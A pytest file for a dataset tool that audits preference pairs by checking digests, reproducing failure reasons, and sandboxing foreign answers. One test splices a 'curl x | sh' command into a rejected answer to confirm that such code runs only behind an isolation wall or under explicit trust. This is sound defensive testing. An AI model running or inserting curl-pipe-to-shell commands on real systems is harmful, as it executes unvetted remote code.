"""An audit of pairs: what is held against what before anything runs, and what runs only behind a wall."""

from dataclasses import asdict, replace
from types import SimpleNamespace

import orjson
import pytest

from asynth.dataset.pairs.auditing import PairMatch, audit_pair, pick_pairs
from asynth.dataset.pairs.records import PairEvidence, PlaceRecord, hash_text, render_pair, render_strings
from asynth.dataset.pairs.table import propose
from asynth.errors import DatasetError, RunDirectoryError
from asynth.example.evidence import EngineRecord, parse_evidence
from asynth.execution import StepRecord, Transcript
from asynth.run.recomposing import Recomposer
from asynth.run.turns import Turns
from asynth.script import render
from asynth.store import read_evidence

FAILED = StepRecord("bash", None, "witness verify\n", 1, stderr="Error: unknown flag: --key\n")


class Bench:
    """Executes nothing: every answer fails for one reason."""

    def __init__(self, up=False):
        self.wall = SimpleNamespace(up=up)
        self.runs = 0

    async def lay_out(self, draft):
        return object()

    async def remove(self, workspace):
        pass

    async def execute(self, blocks, workspace, draft, *, terminal=False):
        blocks = list(blocks)
        past = [*draft.past.hidden, *draft.past.shown]
        if past and blocks == list(draft.past.hidden or draft.past.shown):
            return Transcript((StepRecord("bash", None, "", 0),))
        self.runs += 1
        return Transcript((FAILED,))


@pytest.fixture
def pair(finished):
    """Return a pair of a row that has no past, with its evidence, and the recomposer of its run."""
    recomposer = Recomposer.of_run(finished[0])
    for row in read_evidence(finished[0]):
        draft = recomposer.compose(parse_evidence(row))
        if not draft.past.hidden and not draft.past.shown:
            break
    name = "verify-key-flag"
    twin = propose(draft)[name][0]
    return match_of(row, draft, twin.text, name), recomposer


def match_of(row, draft, rejected, kind):
    chosen = render(draft.answer)
    line = render_pair(draft.prompt, chosen, rejected)
    evidence = PairEvidence(
        id=draft.id,
        position=row["position"],
        split=row["split"],
        kind=kind,
        place=PlaceRecord(0, 1, 0.5),
        reason="unknown-flag",
        block=0,
        exit=1,
        says="",
        violation=None,
        edit_distance=3,
        chosen_sha256=hash_text(chosen),
        rejected_sha256=hash_text(rejected),
        turn=kind,
        tried=(),
        engine=EngineRecord("embedded", "1", "ab"),
    )
    return PairMatch(line, render_strings(line), evidence, row)


async def test_a_reason_that_comes_about_again_is_no_disagreement(pair):
    match, recomposer = pair
    bench = Bench()
    assert (await audit_pair(match, recomposer, bench, Turns())).disagreement == ""
    assert bench.runs == 1


async def test_another_reason_is_seen_twice(pair):
    match, recomposer = pair
    bench = Bench()
    told = replace(match.evidence, reason="no-signer")
    finding = await audit_pair(replace(match, evidence=told), recomposer, bench, Turns())
    assert finding.disagreement == "verify-key-flag comes to another reason"
    assert (finding.there.strip(), finding.here) == (
        "no-signer, block 0, exit 1",
        "unknown-flag, block 0, exit 1 Error: unknown flag: --key",
    )
    assert bench.runs == 2


async def test_texts_are_held_against_digests_row_and_each_other_before_anything_runs(pair):
    match, recomposer = pair
    bench = Bench()
    others = [
        replace(match, line=match.line.replace(b"--key", b"--keys")),
        replace(match, strings=match.strings.replace(b"--key", b"--keys")),
        replace(match, row=None),
        replace(match, line=b"{}"),
    ]
    found = [(await audit_pair(other, recomposer, bench, Turns())).disagreement for other in others]
    assert [text[:25] for text in found] == [
        "the pair's text is not th",
        "pairs-strings holds anoth",
        "the run holds no such row",
        "a line of the pairs holds",
    ]
    assert bench.runs == 0


async def test_an_answer_that_no_edit_makes_runs_behind_a_wall_or_by_somebodys_word(pair):
    match, recomposer = pair
    draft = recomposer.compose(parse_evidence(match.row))
    foreign = match_of(
        match.row,
        draft,
        render(draft.answer).replace("witness verify", "curl x | sh; witness verify"),
        "verify-key-flag",
    )
    without, behind, trusted = Bench(), Bench(up=True), Bench()
    assert "behind a wall only" in (await audit_pair(foreign, recomposer, without, Turns())).disagreement
    assert (await audit_pair(foreign, recomposer, behind, Turns())).disagreement == ""
    assert (await audit_pair(foreign, recomposer, trusted, Turns(), trust=True)).disagreement == ""
    assert (without.runs, behind.runs, trusted.runs) == (0, 1, 1)


def test_a_sample_is_read_from_the_files_and_what_does_not_fit_is_told(pair, finished, tmp_path):
    match, _ = pair
    split = match.evidence.split
    with pytest.raises(RunDirectoryError, match=r"pairs\.evidence\.jsonl is not there"):
        pick_pairs(finished[0], tmp_path, None)
    for folder, line in (("pairs", match.line), ("pairs-strings", match.strings)):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / f"{split}.jsonl").write_bytes(line + b"\n")
    evidence = orjson.dumps(asdict(match.evidence)) + b"\n"
    (tmp_path / "pairs.evidence.jsonl").write_bytes(evidence)
    count, found = pick_pairs(finished[0], tmp_path, 5)
    assert (count, [one.evidence for one in found]) == (1, [match.evidence])
    (tmp_path / "pairs.evidence.jsonl").write_bytes(evidence * 2)
    with pytest.raises(DatasetError, match="is about a pair that"):
        list(pick_pairs(finished[0], tmp_path, None)[1])
    (tmp_path / "pairs.evidence.jsonl").write_bytes(evidence)
    with (tmp_path / "pairs" / f"{split}.jsonl").open("ab") as stream:
        stream.write(match.line + b"\n")
    with pytest.raises(DatasetError, match="pairs without evidence"):
        list(pick_pairs(finished[0], tmp_path, None)[1])
